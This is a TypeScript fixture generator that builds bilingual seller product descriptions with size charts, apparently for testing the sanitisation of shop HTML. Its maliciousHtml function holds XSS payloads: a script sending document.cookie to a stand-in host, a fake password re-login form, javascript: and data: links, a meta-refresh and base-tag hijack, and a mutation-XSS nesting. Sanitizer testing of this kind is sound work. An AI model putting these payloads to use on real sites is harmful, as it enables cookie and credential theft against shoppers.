import { type Product, type Text, yuan } from './product.ts'

/**
 * Returns a seller's free-form description with tables, inline styles and many pictures, as shops write it.
 * Products marked nasty add content that must never reach a shopper's browser.
 */
export function detailsHtml(product: Product, language: keyof Text, pictures: string[]): string {
  const say = (cn: string, en: string) => (language === 'cn' ? cn : en)
  const rows = product.options
    .map(
      ({ name, values }) =>
        `<tr><td>${name[language]}</td><td>${values.map((value) => value.name[language]).join(' / ')}</td></tr>`,
    )
    .join('')
  const chart = sizeChart(product, language)
  return `<div id="offer-template-0"></div><p style="text-align:center"><strong>${product.title[language]}</strong></p>
<p>${say('实物拍摄，请以收到的商品为准。48小时内发货。', 'Photographed from the goods themselves. Sent within 48 hours.')}</p>
<table border="1" cellpadding="4"><tbody><tr><td>${say('品牌', 'Brand')}</td><td>${product.brand[language]}</td></tr>${rows}<tr><td>${say('发货地', 'Ships from')}</td><td>${product.seller.location[language]}</td></tr></tbody></table>
${chart}${pictures.map((url) => `<p><img src="${url}" style="max-width:750px" align="absmiddle"></p>`).join('\n')}
<p>${say('洗涤：冷水手洗，不可漂白，平铺晾干。', 'Care: wash cold by hand, do not bleach, dry flat.')}</p>${product.nasty ? maliciousHtml(product) : ''}`
}

/** Measurements of a garment: of the smallest size, and the increment per size, in centimetres. */
const MEASURES = [
  { cn: '肩宽', en: 'Shoulder', from: 38, step: 1 },
  { cn: '胸围', en: 'Chest', from: 88, step: 4 },
  { cn: '腰围', en: 'Waist', from: 70, step: 4 },
  { cn: '臀围', en: 'Hips', from: 92, step: 4 },
  { cn: '袖长', en: 'Sleeve', from: 57, step: 1 },
  { cn: '衣长', en: 'Length', from: 62, step: 2 },
] as const

function sizeChart(product: Product, language: keyof Text): string {
  const worn = product.options.find(({ name }) => name.cn === '尺码')
  if (!worn) return ''
  const head = [language === 'cn' ? '尺码' : 'Size', ...MEASURES.map((measure) => measure[language])]
  const rows = worn.values.map(({ name }, i) => {
    const sizes = MEASURES.map(({ from, step }) => `<td>${from + i * step}cm</td>`)
    return `<tr><td>${name[language]}</td>${sizes.join('')}</tr>`
  })
  return `<table><thead><tr>${head.map((cell) => `<th>${cell}</th>`).join('')}</tr></thead><tbody>${rows.join('')}</tbody></table>`
}

function maliciousHtml(product: Product): string {
  return `<script>document.location='http://tracker.invalid/?c='+document.cookie</script>
<img src="x" onerror="alert(document.domain)"><svg onload="alert(1)"><a xlink:href="javascript:alert(2)"><text>${yuan(product.priceFen)}</text></a></svg>
<iframe src="http://tracker.invalid/frame" width="1" height="1"></iframe><img src="http://tracker.invalid/pixel.gif">
<a href="javascript:alert(3)">Contact</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">QQ</a>
<div style="position:fixed;inset:0;background:url(http://tracker.invalid/bg.png)" onclick="alert(5)">Click anywhere</div>
<form action="http://tracker.invalid/login"><input name="password"><button>Sign in again</button></form>
<style>body{display:none}</style><meta http-equiv="refresh" content="0;url=http://tracker.invalid"><base href="http://tracker.invalid/">
<p>Unclosed <b>bold <i>and</p><math><mtext><table><mglyph><style><img src=x onerror=alert(6)>`
}
